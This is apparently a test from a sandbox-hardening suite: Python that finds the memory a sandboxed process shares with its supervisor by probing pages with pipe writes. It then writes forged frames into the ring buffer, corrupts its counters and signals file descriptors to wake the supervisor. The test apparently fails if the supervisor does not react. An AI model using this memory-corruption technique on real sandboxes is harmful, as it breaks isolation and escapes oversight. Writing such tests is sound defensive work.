# Finds the memory it shares with the supervisor and writes there what no engine would: `arena["frames"]` says what.
# The layout is the one of shared/segment.h.
def attack(arena):
    import ctypes
    import time

    segment = _find(arena["magic"])
    ring_bytes = ctypes.c_uint32.from_address(segment + 4).value
    word = lambda at: ctypes.c_uint64.from_address(segment + at)
    to_cell_read, written, read = word(128), word(256), word(320)
    data = segment + 4096 + ring_bytes
    frames = bytes.fromhex(arena["frames"]) * arena["times"]
    at = written.value
    for byte in frames:
        ctypes.c_uint8.from_address(data + at % ring_bytes).value = byte
        at += 1
    written.value = at + arena["skip_written"] & 2**64 - 1
    to_cell_read.value = to_cell_read.value + arena["skip_read"] & 2**64 - 1
    for _ in range(10):
        for fd in range(3, 64):  # one of them wakes the supervisor
            try:
                os.set_blocking(fd, False)
                os.write(fd, (1).to_bytes(8, "little"))
            except OSError:
                pass
        time.sleep(0.02)
    raise Failed("nobody minded")


def _find(magic):
    """The kernel says which pages are there: a write() from elsewhere fails, and kills nobody."""
    import ctypes
    import mmap

    libc = ctypes.CDLL(None, use_errno=True)
    libc.write.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
    into, out_of = os.pipe()
    found = set()
    anchors = [ctypes.cast(libc[name], ctypes.c_void_p).value for name in ("malloc", "environ")]
    anchors += [ctypes.addressof(ctypes.create_string_buffer(1)), id(object()), ctypes.addressof(ctypes.py_object())]
    for anchor in anchors:
        for direction in (-1, 1):
            at, gaps = anchor & -mmap.PAGESIZE, 0
            while gaps < 1 << 12 and at > 0:
                if libc.write(out_of, at, 8) != 8:
                    gaps += 1
                elif int.from_bytes(os.read(into, 8), "little") & 0xFFFF_FFFF == magic:
                    found.add(at)
                at += direction * mmap.PAGESIZE
    if not found:
        raise LookupError("the shared memory was not found")
    # A shared cell has a segment of its own: this sandbox's is the one that this very code came through.
    return max(found, key=lambda segment: ctypes.c_uint64.from_address(segment + 64).value)
